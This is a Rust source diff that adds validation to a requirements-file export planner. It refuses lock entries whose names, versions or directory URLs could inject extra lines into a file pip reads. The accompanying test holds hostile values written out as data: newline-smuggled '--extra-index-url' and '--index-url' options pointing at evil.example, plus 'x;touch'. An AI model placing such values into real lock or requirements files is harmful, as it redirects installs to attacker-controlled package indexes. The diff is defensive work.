@@ -4,6 +4,7 @@
 //! indexes a reinstall needs.
 
 use std::collections::BTreeSet;
+use std::str::FromStr;
 
 use super::index::{self, Artifact, ArtifactKind, Lookup, ResolvedIndexes, Wanted};
 use crate::lock::model::{Lock, Package, Source, index_for_local_version};
@@ -36,6 +37,17 @@ pub struct Hashing<'a> {
     pub options: &'a index::Options,
 }
 
+/// Why no plan can be made from a lock.
+#[derive(Debug, thiserror::Error)]
+pub enum PlanError {
+    #[error("cannot export with hashes: {0}")]
+    MissingHashes(#[from] MissingHashes),
+    /// A lock is a stranger's file, and what it holds is written into files
+    /// pip reads line by line: a name with a newline would add an index.
+    #[error("refusing to export: {0}")]
+    Unsafe(String),
+}
+
 #[derive(Debug, thiserror::Error)]
 #[error("no sha256 for {count} of {total} packages: {}", .missing.join("; "))]
 pub struct MissingHashes {
@@ -44,7 +56,10 @@ pub struct MissingHashes {
     pub missing: Vec<String>,
 }
 
-pub fn plan<'a>(lock: &'a Lock, all: bool, hashing: Option<&Hashing>) -> Result<Plan<'a>, MissingHashes> {
+pub fn plan<'a>(lock: &'a Lock, all: bool, hashing: Option<&Hashing>) -> Result<Plan<'a>, PlanError> {
+    if let Some(problem) = lock.packages.iter().find_map(unsafe_entry) {
+        return Err(PlanError::Unsafe(problem));
+    }
     let mut pins = Vec::new();
     let mut direct = Vec::new();
     for package in &lock.packages {
@@ -92,11 +107,11 @@ pub fn plan<'a>(lock: &'a Lock, all: bool, hashing: Option<&Hashing>) -> Result<
             }
         }
         if !missing.is_empty() {
-            return Err(MissingHashes {
+            return Err(PlanError::MissingHashes(MissingHashes {
                 count: missing.len(),
                 total: pins.len(),
                 missing,
-            });
+            }));
         }
         if !hashing.indexes.primary.is_pip_default() {
             index_url = Some(hashing.indexes.primary.shown());
@@ -110,6 +125,41 @@ pub fn plan<'a>(lock: &'a Lock, all: bool, hashing: Option<&Hashing>) -> Result<
         index_url,
         extra_index_urls,
     })
+}
+
+/// What makes a package unfit to be written into a requirements file: a name
+/// that is not a PEP 508 name, a version that is not PEP 440, or a direct
+/// reference holding whitespace or control characters (each shown escaped).
+fn unsafe_entry(package: &Package) -> Option<String> {
+    let name = &package.name;
+    let valid_name = !name.is_empty()
+        && name
+            .bytes()
+            .all(|byte| byte.is_ascii_alphanumeric() || b"._-".contains(&byte))
+        && name.bytes().next().is_some_and(|byte| byte.is_ascii_alphanumeric())
+        && name
+            .bytes()
+            .next_back()
+            .is_some_and(|byte| byte.is_ascii_alphanumeric());
+    if !valid_name {
+        return Some(format!(
+            "package name {name:?} is not a valid distribution name (PEP 508)"
+        ));
+    }
+    if let Some(version) = &package.version
+        && pep440_rs::Version::from_str(version).is_err()
+    {
+        return Some(format!("{name}: version {version:?} is not a PEP 440 version"));
+    }
+    let reference = package.direct_reference().unwrap_or_default();
+    let url = match &package.source {
+        Source::Directory { url, .. } => url.as_str(),
+        _ => "",
+    };
+    [reference.as_str(), url]
+        .into_iter()
+        .find(|text| text.chars().any(|c| c.is_whitespace() && c != ' ' || c.is_control()) || text.contains(" #"))
+        .map(|text| format!("{name}: its source {text:?} holds whitespace or control characters"))
 }
 
 /// The installed wheel when the index has it with a hash; else every hashed
@@ -192,4 +242,44 @@ pub fn gpu_side(lock: &Lock) -> Vec<String> {
         lock.system.glibc.as_deref().unwrap_or("unknown")
     ));
     lines
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::lock::model::sample_lock;
+
+    /// Issue 20 D3: names, versions and sources from a lock reach a file pip
+    /// reads line by line; one that could add a line is refused, escaped.
+    #[test]
+    fn a_lock_entry_that_could_add_a_line_is_refused() {
+        let hostile = [
+            ("x\n--extra-index-url http://evil.example/simple\n", None),
+            ("x;touch", None),
+            ("-e", None),
+            ("fine", Some("1.0\n--index-url http://evil.example/")),
+        ];
+        for (name, version) in hostile {
+            let mut lock = sample_lock();
+            lock.packages[0].name = name.to_string();
+            if let Some(version) = version {
+                lock.packages[0].version = Some(version.to_string());
+            }
+            match plan(&lock, false, None) {
+                Err(PlanError::Unsafe(problem)) => {
+                    assert!(!problem.contains('\n'), "the error line holds the newline: {problem}");
+                    assert!(problem.contains("\\n") || problem.contains(name), "{problem}");
+                }
+                other => panic!("{name:?} {version:?}: {:?}", other.err()),
+            }
+        }
+        let mut lock = sample_lock();
+        lock.packages[0].source = Source::Directory {
+            url: "file:///src/x\n--extra-index-url http://evil.example/".to_string(),
+            editable: true,
+            subdirectory: None,
+        };
+        assert!(matches!(plan(&lock, false, None), Err(PlanError::Unsafe(_))));
+        assert!(plan(&sample_lock(), false, None).is_ok());
+    }
 }
